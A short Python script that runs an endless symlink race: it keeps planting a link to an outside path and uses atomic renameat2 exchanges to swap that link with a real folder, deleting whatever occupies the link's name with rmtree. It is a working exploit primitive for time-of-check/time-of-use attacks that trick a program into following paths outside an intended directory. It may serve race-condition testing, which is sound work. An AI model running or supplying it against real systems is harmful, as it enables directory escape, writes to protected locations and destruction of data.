#!/usr/bin/env python3
"""hostile_swaps.py FOLDER OTHER OUTSIDE: OTHER is a link to OUTSIDE, and the two names are exchanged for
ever, atomically. When the link was replaced by somebody, it is planted anew."""

import ctypes
import os
import shutil
import sys

RENAME_EXCHANGE = 2
AT_FDCWD = -100
libc = ctypes.CDLL(None, use_errno=True)
folder, other, outside = (os.fsencode(name) for name in sys.argv[1:])
while True:
    if not os.path.islink(folder) and not os.path.islink(other):
        shutil.rmtree(other, ignore_errors=True)
        try:
            os.symlink(outside, other)
        except FileExistsError:
            pass
    for _ in range(50):
        libc.renameat2(AT_FDCWD, folder, AT_FDCWD, other, RENAME_EXCHANGE)
